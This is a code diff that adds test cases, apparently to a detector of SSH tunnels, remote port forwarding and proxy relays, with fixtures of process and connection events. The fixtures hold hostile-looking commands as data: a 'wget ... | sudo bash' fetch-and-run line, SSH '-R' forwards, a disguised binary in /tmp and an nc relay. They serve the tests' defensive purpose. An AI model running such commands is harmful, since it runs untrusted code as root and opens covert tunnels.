@@ -182,6 +182,21 @@ CASES = {
          exec_("/usr/bin/bash", "bash", "-c", "wget -qO- http://x/i.sh | sudo bash")],
         [exec_("/usr/bin/sh", "sh", "-c", "curl -fsSL -o out.tgz https://x/out.tgz && tar xzf out.tgz"),
          exec_("/usr/bin/bash", "bash", "-c", "cat log | grep shard")]),
+    "tunnel-ssh-config-forwarding": (
+        [dict(exec_("/usr/bin/ssh", "ssh", "-F", "cfg", "h"), proc=dict(proc("/usr/bin/ssh", "ssh", "-F", "cfg", "h"), ssh={
+            "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["config"]})),
+         dict(exec_("/tmp/kw", "kw", "-NoRemoteForward=1 x:2", "h"), proc=dict(proc("/tmp/kw", "kw"), ssh={
+             "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["options"]}))],
+        [exec_("/usr/bin/ssh", "ssh", "-R", "1:x:2", "h"),
+         dict(exec_("/usr/bin/ssh", "ssh", "-R", "1:x:2", "h"), proc=dict(proc("/usr/bin/ssh", "ssh"), ssh={
+             "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["flags"]})),
+         dict(exec_("/usr/bin/ssh", "ssh", "git@forge"), proc=dict(proc("/usr/bin/ssh", "ssh"), ssh={
+             "host": "forge", "forwarding": False, "proxy": False, "tunnel": False, "decided_by": []}))]),
+    "tunnel-ssh-proxy-relay": (
+        [dict(connect("198.51.100.7", 8443, "external"), proc=dict(proc("/usr/bin/python3.11", "python3"),
+              relay_of={"pid": 4000, "host": "hidden", "proxy": "python3 tls.py"}))],
+        [connect("198.51.100.7", 8443, "external"),
+         dict(connect("127.0.0.1", 2222, "loopback"), proc=dict(proc("/usr/bin/nc", "nc"), relay_of={"pid": 4000}))]),
     "exec-args-truncated": (
         [truncated("/usr/bin/ssh", "ssh", "-o" + "x" * 4080), truncated("/bin/sh", "sh", "-c", ":" + " " * 4090)],
         [exec_("/bin/sh", "sh", "-c", ":" + " " * 100), truncated("/usr/bin/ld", "ld", *["a.o"] * 1200)]),
